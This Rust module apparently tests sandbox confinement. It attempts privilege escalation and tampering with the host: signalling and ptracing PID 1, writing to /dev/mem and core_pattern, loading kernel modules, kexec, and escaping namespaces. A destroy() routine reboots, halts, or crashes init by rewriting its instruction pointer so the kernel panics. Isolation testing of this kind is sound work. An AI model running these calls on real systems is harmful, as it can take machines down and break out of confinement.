//! Ways to more rights, to other processes, and to the end of the machine.

use std::process::ExitCode;

use nix::errno::Errno;
use nix::sys::signal::Signal;
use nix::sys::wait::WaitStatus;

use crate::log::Log;
use crate::system::{Answer, address, call, exit_now, fork, open, sleep_for_ever, wait};

const REBOOT_MAGIC: [i64; 2] = [0xfee1_dead, 0x2812_1969];
const RB_AUTOBOOT: i64 = 0x0123_4567;
const RB_HALT: i64 = 0xcdef_0123;
const RB_POWER_OFF: i64 = 0x4321_fedc;
const RB_KEXEC: i64 = 0x4558_4543;
const PTRACE_ATTACH: i64 = 16;

/// Tries everything that would give it more than it has, and nothing that ends the machine where
/// tools are confined.
pub fn run() -> ExitCode {
    let mut log = Log::new("process");
    log.control("kill its own child", own_child());
    log.control("open its own file", open("/proc/self/status", libc::O_RDONLY));
    signals(&mut log);
    for (name, mode) in [("reboot", RB_AUTOBOOT), ("halt", RB_HALT), ("power off", RB_POWER_OFF)] {
        log.attempt(name, "", reboot(mode));
    }
    devices(&mut log);
    rights(&mut log);
    other_kernels(&mut log);
    namespaces(&mut log);
    log.print()
}

/// A child that sleeps, killed and waited for.
fn own_child() -> Answer {
    let Some(child) = fork()? else { sleep_for_ever() };
    call(libc::SYS_kill, [child, libc::SIGKILL.into()])?;
    match wait(child)? {
        WaitStatus::Signaled(_, Signal::SIGKILL, _) => Ok(0),
        _ => Err(Errno::ECHILD),
    }
}

fn signals(log: &mut Log) {
    for (name, signal) in [
        ("SIGKILL", libc::SIGKILL),
        ("SIGSTOP", libc::SIGSTOP),
        ("SIGTERM", libc::SIGTERM),
        ("SIGCHLD", libc::SIGCHLD),
    ] {
        log.attempt("kill", format!("pid 1 {name}"), call(libc::SYS_kill, [1, signal.into()]));
    }
    log.attempt("ptrace", "pid 1", call(libc::SYS_ptrace, [PTRACE_ATTACH, 1, 0, 0]));
    let vector = [0_i64; 2];
    for (name, number) in [
        ("process_vm_readv", libc::SYS_process_vm_readv),
        ("process_vm_writev", libc::SYS_process_vm_writev),
    ] {
        let arguments = [1, address(&vector), 1, address(&vector), 1, 0];
        log.attempt(name, "pid 1", call(number, arguments));
    }
    let handle = call(libc::SYS_pidfd_open, [1, 0])
        .and_then(|pidfd| call(libc::SYS_pidfd_getfd, [pidfd, 0, 0]));
    log.attempt("pidfd_getfd", "pid 1", handle);
    for file in ["mem", "fd/0", "fd/3", "environ", "root/etc", "maps"] {
        log.attempt("open", format!("/proc/1/{file}"), open(&format!("/proc/1/{file}"), 0));
    }
    let limit = [0_u64; 2];
    let answer = call(libc::SYS_prlimit64, [1, libc::RLIMIT_NOFILE.into(), address(&limit), 0]);
    log.attempt("prlimit", "pid 1", answer);
}

fn reboot(mode: i64) -> Answer {
    call(libc::SYS_reboot, [REBOOT_MAGIC[0], REBOOT_MAGIC[1], mode, 0])
}

fn devices(log: &mut Log) {
    for path in [
        "/dev/mem",
        "/dev/kmem",
        "/dev/port",
        "/dev/kmsg",
        "/dev/vda",
        "/dev/console",
        "/dev/ttyS0",
        "/dev/hwrng",
        "/dev/vsock",
        "/dev/kvm",
        "/proc/kcore",
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/hotplug",
        "/sys/kernel/uevent_helper",
        "/sys/power/state",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/tools/pids.max",
        "/sbin/init",
        "/etc/bsm/tools.json",
        "/etc/passwd",
    ] {
        log.attempt("open for writing", path, open(path, libc::O_WRONLY));
    }
    log.attempt("iopl", "3", call(libc::SYS_iopl, [3]));
    log.attempt("ioperm", "0..1024", call(libc::SYS_ioperm, [0, 1024, 1]));
    // Character device 1, 1 is /dev/mem; block device 254, 0 would be the disk.
    for (name, kind, device) in
        [("mknod mem", libc::S_IFCHR, 0x101), ("mknod disk", libc::S_IFBLK, 0xfe00)]
    {
        let path = "/tmp/device\0";
        let arguments = [libc::AT_FDCWD.into(), address(path), i64::from(kind | 0o666), device];
        log.attempt(name, "", call(libc::SYS_mknodat, arguments));
    }
}

fn rights(log: &mut Log) {
    let all = [0x2008_0522_u32, 0];
    let sets = [u32::MAX; 6];
    log.attempt("capset", "all", call(libc::SYS_capset, [address(&all), address(&sets)]));
    log.attempt("setuid", "0", call(libc::SYS_setuid, [0]));
    log.attempt("setresgid", "0", call(libc::SYS_setresgid, [0, 0, 0]));
    log.attempt("setgroups", "0", call(libc::SYS_setgroups, [1, address(&[0_u32])]));
    let more = [1_u64 << 20; 2];
    let files = i64::from(libc::RLIMIT_NOFILE);
    log.attempt("prlimit", "more files", call(libc::SYS_prlimit64, [0, files, address(&more), 0]));
    let time = [0_i64; 2];
    log.attempt("clock_settime", "1970", call(libc::SYS_clock_settime, [0, address(&time)]));
    log.attempt("sethostname", "x", call(libc::SYS_sethostname, [address("x"), 1]));
    log.attempt("nice", "-20", call(libc::SYS_setpriority, [0, 0, -20]));
    log.attempt("real time", "", call(libc::SYS_sched_setscheduler, [0, 1, address(&[1_u32])]));
    log.attempt("personality", "", call(libc::SYS_personality, [0x0040_0000]));
    log.attempt("modify_ldt", "", call(libc::SYS_modify_ldt, [1, address(&[0_u32; 4]), 16]));
    log.attempt("keyctl", "", call(libc::SYS_keyctl, [0, -3, 1]));
}

fn other_kernels(log: &mut Log) {
    let nothing = [0_u8; 64];
    let empty = "\0";
    log.attempt(
        "init_module",
        "",
        call(libc::SYS_init_module, [address(&nothing), 64, address(empty)]),
    );
    log.attempt("finit_module", "", call(libc::SYS_finit_module, [0, address(empty), 0]));
    log.attempt("kexec_load", "", call(libc::SYS_kexec_load, [0, 0, 0, 0]));
    log.attempt(
        "kexec_file_load",
        "",
        call(libc::SYS_kexec_file_load, [0, 0, 1, address(empty), 0]),
    );
    log.attempt("kexec", "", reboot(RB_KEXEC));
    log.attempt("bpf", "", call(libc::SYS_bpf, [5, address(&nothing), 64]));
    log.attempt(
        "perf_event_open",
        "",
        call(libc::SYS_perf_event_open, [address(&nothing), 0, -1, -1, 0]),
    );
    log.attempt("userfaultfd", "", call(libc::SYS_userfaultfd, [0]));
    log.attempt("io_uring_setup", "", call(libc::SYS_io_uring_setup, [8, address(&[0_u8; 120])]));
    log.attempt("seccomp", "another filter", call(libc::SYS_seccomp, [1, 0, address(&nothing)]));
    let swap = "/tmp/swap\0";
    log.attempt("swapon", "", call(libc::SYS_swapon, [address(swap), 0]));
    log.attempt("acct", "", call(libc::SYS_acct, [address(swap)]));
}

fn namespaces(log: &mut Log) {
    for (name, flag) in [
        ("user", libc::CLONE_NEWUSER),
        ("mount", libc::CLONE_NEWNS),
        ("net", libc::CLONE_NEWNET),
        ("pid", libc::CLONE_NEWPID),
    ] {
        log.attempt("unshare", name, call(libc::SYS_unshare, [flag.into()]));
        let flags = i64::from(flag) | i64::from(libc::SIGCHLD);
        let answer = call(libc::SYS_clone, [flags, 0, 0, 0, 0]);
        if answer == Ok(0) {
            exit_now(0);
        }
        log.attempt("clone", name, answer);
    }
    let (root, tmp, kind) = ("/\0", "/tmp\0", "tmpfs\0");
    log.attempt(
        "mount",
        "",
        call(libc::SYS_mount, [address(kind), address(tmp), address(kind), 0, 0]),
    );
    log.attempt("umount", "/proc", call(libc::SYS_umount2, [address("/proc\0"), 2]));
    log.attempt("chroot", "/", call(libc::SYS_chroot, [address(root)]));
    log.attempt("pivot_root", "", call(libc::SYS_pivot_root, [address(root), address(root)]));
    log.attempt("setns", "", call(libc::SYS_setns, [0, 0]));
    log.attempt(
        "open_by_handle_at",
        "",
        call(libc::SYS_open_by_handle_at, [-100, address(&[0_u8; 16]), 0]),
    );
}

/// Ends the machine, where the rights suffice; returns only when it could not.
pub fn destroy(how: &str) -> ExitCode {
    println!("destroying by {how}");
    let answer = match how {
        "reboot" => reboot(RB_AUTOBOOT),
        "halt" => reboot(RB_HALT),
        "power-off" => reboot(RB_POWER_OFF),
        "kill-init" => call(libc::SYS_kill, [1, libc::SIGSEGV.into()]),
        "crash-init" => crash_init(),
        _ => return ExitCode::from(2),
    };
    std::thread::sleep(std::time::Duration::from_millis(200));
    match answer {
        Ok(_) => ExitCode::SUCCESS,
        Err(errno) => {
            eprintln!("attack: {how}: {errno}");
            ExitCode::FAILURE
        }
    }
}

/// Sends PID 1 to an address where nothing is: without PID 1 the kernel panics.
fn crash_init() -> Answer {
    const PTRACE_POKEUSER: i64 = 6;
    const PTRACE_DETACH: i64 = 17;
    /// Offset of `rip` in `struct user`.
    const RIP: i64 = 128;
    call(libc::SYS_ptrace, [PTRACE_ATTACH, 1, 0, 0])?;
    // It is ours once it has stopped.
    call(libc::SYS_wait4, [1, 0, 0x4000_0000])?;
    call(libc::SYS_ptrace, [PTRACE_POKEUSER, 1, RIP, 0x10])?;
    call(libc::SYS_ptrace, [PTRACE_DETACH, 1, 0, 0])
}
